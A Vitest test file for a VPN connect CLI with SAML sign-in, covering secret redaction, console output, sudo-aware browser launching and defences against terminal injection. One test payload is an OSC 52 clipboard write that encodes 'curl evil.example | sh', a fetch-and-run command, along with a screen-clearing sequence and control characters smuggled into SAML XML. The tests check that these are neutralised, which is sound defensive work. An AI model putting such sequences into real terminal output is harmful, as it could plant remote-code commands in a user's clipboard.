import { request } from "node:http";
import { deflateRawSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { startAcsListener } from "../cli/shared/saml-sign-in/acs-listener";
import { expectSignIn } from "../cli/connect/sign-in-expectation";
import { browserCommand, parseBrowserCommand } from "../cli/connect/browser";
import { browserUser } from "../cli/connect/privileges";
import { Redactor } from "../cli/connect/redactor";
import { consoleReporter } from "../cli/connect/reporter";

const STATE_ID = "instance-1/1234567890123456789/11111111-2222-3333-4444-555555555555";
const SAML = "PHNhbWxwOlJlc3BvbnNlPmZvbytiYXIvYmF6PT0=";

describe("Redactor", () => {
  it.each([
    ["OpenVPN's AUTH_FAILED log line", `AUTH: Received control message: AUTH_FAILED,CRV1:R,E:${STATE_ID}:Ti9B:https://idp/x`, "AUTH: Received control message: AUTH_FAILED,CRV1:[redacted]"],
    ["the management challenge line", `>PASSWORD:Verification Failed: 'Auth' ['CRV1:R:${STATE_ID}:Ti9B:https://idp/x']`, ">PASSWORD:Verification Failed: 'Auth' ['CRV1:[redacted]']"],
    ["a pushed auth-token", "PUSH_REPLY,route 10.0.0.0 255.255.0.0,auth-token SESS_ID_AT_abc,ping 1", "PUSH_REPLY,route 10.0.0.0 255.255.0.0,auth-token [redacted],ping 1"],
    ["a form body", `SAMLResponse=${encodeURIComponent(SAML)}&RelayState=x`, "SAMLResponse=[redacted]&RelayState=x"],
  ])("hides secrets in %s before they are known", (_name, text, expected) => {
    expect(new Redactor().redact(text)).toBe(expected);
  });

  it("hides a known secret raw and form-encoded", () => {
    const redactor = new Redactor();
    redactor.add(SAML);
    redactor.add(STATE_ID);
    const text = `raw ${SAML} encoded ${encodeURIComponent(SAML)} state ${STATE_ID}`;
    expect(redactor.redact(text)).toBe("raw [redacted] encoded [redacted] state [redacted]");
  });

  it("ignores secrets too short to be told from ordinary text", () => {
    const redactor = new Redactor();
    redactor.add("a");
    expect(redactor.redact("a cat")).toBe("a cat");
  });
});

describe("consoleReporter", () => {
  function capture(verbose: boolean) {
    const lines: string[] = [];
    const redactor = new Redactor();
    redactor.add(STATE_ID);
    const reporter = consoleReporter(redactor, { verbose, write: (text) => lines.push(text) });
    return { lines, reporter };
  }

  it("prints each stage with what it means", () => {
    const { lines, reporter } = capture(false);
    reporter.stage("waiting for browser sign-in");
    expect(lines.join("")).toContain("waiting for browser sign-in");
    expect(lines.join("")).toContain("sign in with your organisation account in the browser");
  });

  it("redacts every kind of line it prints", () => {
    const { lines, reporter } = capture(true);
    reporter.stage("connecting", STATE_ID);
    reporter.info(STATE_ID);
    reporter.warn(STATE_ID);
    reporter.error(STATE_ID);
    reporter.openvpnLog(STATE_ID);
    expect(lines).toHaveLength(5);
    for (const line of lines) expect(line).not.toContain(STATE_ID);
  });

  it("prints OpenVPN's log only when verbose", () => {
    const quiet = capture(false);
    quiet.reporter.openvpnLog("Initialization Sequence Completed");
    expect(quiet.lines).toEqual([]);
    const verbose = capture(true);
    verbose.reporter.openvpnLog("Initialization Sequence Completed");
    expect(verbose.lines.join("")).toContain("Initialization Sequence Completed");
  });
});

describe("browser command", () => {
  it("splits --browser on blanks, with no shell", () => {
    expect(parseBrowserCommand("  firefox --new-window ")).toEqual(["firefox", "--new-window"]);
    expect(() => parseBrowserCommand("  ")).toThrow(/--browser needs a command/);
  });

  it.each([
    ["xdg-open for a normal user", undefined, {}, 1000, ["xdg-open"]],
    ["xdg-open as the invoking user, for root through sudo", undefined, { SUDO_USER: "alice" }, 0, ["sudo", "-u", "alice", "--", "xdg-open"]],
    ["xdg-open for root logged in directly", undefined, {}, 0, ["xdg-open"]],
    ["a --browser given by hand as the invoking user, for root through sudo", "firefox --new-window", { SUDO_USER: "alice" }, 0, ["sudo", "-u", "alice", "--", "firefox", "--new-window"]],
    ["a --browser given by hand as is, for a normal user", "firefox", { SUDO_USER: "alice" }, 1000, ["firefox"]],
  ])("opens %s", (_name, option, env, uid, expected) => {
    expect(browserCommand(option, browserUser(env, uid))).toEqual(expected);
  });
});

/**
 * Text someone else chose reaches the terminal of the user (root, under sudo): the reason a POST was refused, an
 * address in the endpoint's AuthnRequest, OpenVPN's log of what the server sent. Written raw, it could clear the
 * screen, fake the CLI's own lines, or set the clipboard (xterm's OSC 52) for the user to paste later.
 */
describe("a hostile sender cannot drive the user's terminal through the CLI's output", () => {
  // OSC 52 (write the clipboard), ended by BEL; then CSI 2J (clear the screen) and a carriage return.
  const CONTROL_SEQUENCES = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\r";
  // picocolors' own colouring (CSI … m) is the only control sequence the CLI writes itself.
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  const withoutOwnColours = (text: string) => text.replace(/\u001b\[[0-9;]*m/g, "");
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

  function capture() {
    const lines: string[] = [];
    return { lines, reporter: consoleReporter(new Redactor(), { verbose: true, write: (text) => lines.push(text) }) };
  }

  it("a cross-site POST whose broken XML puts control characters in the refusal the CLI prints", async () => {
    const { lines, reporter } = capture();
    // As session.ts wires it: every refusal becomes a warning on the terminal.
    const listener = await startAcsListener({ port: 0, onRefused: (reason) => reporter.warn(`the sign-in listener turned a POST away: ${reason}`) });
    try {
      void listener.awaitSignIn({ idpOrigin: "https://login.microsoftonline.com", requestId: "_req-1", destination: listener.url }).catch(() => undefined);
      const body = `SAMLResponse=${encodeURIComponent(Buffer.from(`</${CONTROL_SEQUENCES}`).toString("base64"))}`;
      const status = await new Promise<number>((resolve, reject) => {
        const req = request(
          {
            host: "127.0.0.1",
            port: listener.port,
            method: "POST",
            path: "/",
            agent: false,
            // A sandboxed frame on any web page posts with Origin: null, which the listener must accept.
            headers: { host: `127.0.0.1:${listener.port}`, origin: "null", "content-type": "application/x-www-form-urlencoded", "content-length": Buffer.byteLength(body) },
          },
          (res) => {
            res.resume();
            res.on("end", () => resolve(res.statusCode ?? 0));
          },
        );
        req.on("error", reject);
        req.end(body);
      });
      expect(status).toBe(403);
    } finally {
      await listener.close();
    }
    const printed = lines.join("");
    expect(printed).toContain("turned a POST away: the SAMLResponse is refused: it is not well-formed XML");
    expect(withoutOwnColours(printed).replace(/\n/g, "")).not.toMatch(controls);
  });

  it("an endpoint whose AuthnRequest names an assertion consumer URL with control characters", () => {
    const { lines, reporter } = capture();
    // The control characters as XML character references, which the parser turns back into the characters.
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    const requestXml = `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_req-1" AssertionConsumerServiceURL="http://127.0.0.1:35001/${CONTROL_SEQUENCES.replace(/[\u0000-\u001f]/g, (c) => `&#${c.charCodeAt(0)};`)}"/>`;
    const url = new URL("https://login.microsoftonline.com/t/saml2");
    url.searchParams.set("SAMLRequest", deflateRawSync(Buffer.from(requestXml)).toString("base64"));
    const { warning } = expectSignIn(url, "http://127.0.0.1:35001");
    expect(warning).toMatch(controls);

    reporter.warn(warning as string);

    expect(withoutOwnColours(lines.join("")).replace(/\n/g, "")).not.toMatch(controls);
  });

  it.each([
    ["an OpenVPN log line", (reporter: ReturnType<typeof capture>["reporter"]) => reporter.openvpnLog(`AUTH: Received control message: AUTH_FAILED,${CONTROL_SEQUENCES}`)],
    ["a stage detail", (reporter: ReturnType<typeof capture>["reporter"]) => reporter.stage("reconnecting", CONTROL_SEQUENCES)],
    ["an error", (reporter: ReturnType<typeof capture>["reporter"]) => reporter.error(`OpenVPN exited. Its last lines:\n    ${CONTROL_SEQUENCES}`)],
    ["an info line", (reporter: ReturnType<typeof capture>["reporter"]) => reporter.info(CONTROL_SEQUENCES)],
  ])("%s", (_name, print) => {
    const { lines, reporter } = capture();
    print(reporter);
    expect(lines.join("")).toContain("?]52;c;");
    expect(withoutOwnColours(lines.join("")).replace(/\n/g, "")).not.toMatch(controls);
  });

  it("keeps the line breaks of the CLI's own multi-line messages, and still hides secrets", () => {
    const lines: string[] = [];
    const redactor = new Redactor();
    redactor.add(STATE_ID);
    consoleReporter(redactor, { verbose: false, write: (text) => lines.push(text) }).error(`first line\n  - second ${STATE_ID}`);
    expect(withoutOwnColours(lines.join(""))).toBe("✖ first line\n  - second [redacted]\n");
  });
});
